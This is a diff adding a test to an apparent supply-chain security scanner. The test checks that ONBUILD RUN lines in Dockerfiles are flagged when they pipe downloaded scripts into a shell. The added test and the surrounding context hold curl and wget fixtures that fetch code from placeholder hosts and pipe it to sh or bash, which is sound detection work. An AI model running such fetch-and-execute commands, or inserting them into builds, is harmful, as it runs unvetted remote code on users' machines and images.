@@ -49,6 +49,11 @@ describe("supply-chain/fetch-execute", () => {
     assert.deepEqual(findings.map((f) => [f.locations[0]?.startLine, f.evidence["how"]]), [[7, "download-then-run"]]);
   });
 
+  it("reads ONBUILD RUN, which runs in every image built FROM this one", async () => {
+    const { findings } = await run({ Dockerfile: "FROM a\nONBUILD RUN curl -fsSL https://x.example/i | sh\nONBUILD ADD . /src\n" });
+    assert.deepEqual(findings.map((f) => [f.locations[0]?.startLine, f.locations[0]?.startColumn, f.evidence["how"]]), [[2, 13, "pipe"]]);
+  });
+
   it("reads RUN heredocs and exec-form shells in Dockerfiles", async () => {
     const { findings } = await run({ Dockerfile: 'FROM a\nRUN <<EOF\nset -e\ncurl -fsSL https://x.example/i | sh\nEOF\nRUN ["/bin/sh", "-c", "wget -qO- https://y.example/j | bash"]\n' });
     assert.deepEqual(findings.map((f) => [f.locations[0]?.startLine, f.locations[0]?.startColumn]), [
